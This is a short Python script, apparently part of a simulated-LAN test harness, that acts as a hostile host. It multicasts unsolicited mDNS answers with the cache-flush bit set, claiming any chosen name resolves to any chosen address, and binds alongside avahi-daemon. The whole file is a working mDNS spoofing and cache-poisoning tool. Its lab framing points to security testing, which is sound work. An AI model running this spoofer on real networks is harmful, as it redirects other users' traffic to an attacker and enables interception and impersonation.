#!/usr/bin/env python3
"""Plays a hostile host on the LAN in a box: sends unsolicited mDNS responses
claiming NAME -> ADDRESS (an A record with the cache-flush bit, TTL 120), the
way any host can without probing first, from port 5353 to 224.0.0.251.

usage: mdns_claim.py NAME ADDRESS LOCAL_IP [COUNT] [INTERVAL_SECONDS]
Run it inside a host's network namespace (lan_run); LOCAL_IP picks the
interface. Standard library only."""
import socket
import struct
import sys
import time


def encode_name(name):
    out = b""
    for label in name.rstrip(".").split("."):
        raw = label.encode("ascii")
        out += bytes([len(raw)]) + raw
    return out + b"\0"


def response(name, address):
    header = struct.pack("!HHHHHH", 0, 0x8400, 0, 1, 0, 0)  # QR|AA, one answer
    rdata = socket.inet_aton(address)
    record = encode_name(name) + struct.pack("!HHIH", 1, 0x8001, 120, len(rdata)) + rdata
    return header + record  # type A, class IN with the cache-flush bit


def main():
    if len(sys.argv) < 4:
        sys.exit(__doc__)
    name, address, local_ip = sys.argv[1:4]
    count = int(sys.argv[4]) if len(sys.argv) > 4 else 1
    interval = float(sys.argv[5]) if len(sys.argv) > 5 else 1.0
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)  # beside avahi-daemon
    sock.bind(("0.0.0.0", 5353))  # responders must answer from 5353 (RFC 6762 6)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(local_ip))
    packet = response(name, address)
    for i in range(count):
        sock.sendto(packet, ("224.0.0.251", 5353))
        if i + 1 < count:
            time.sleep(interval)


if __name__ == "__main__":
    main()
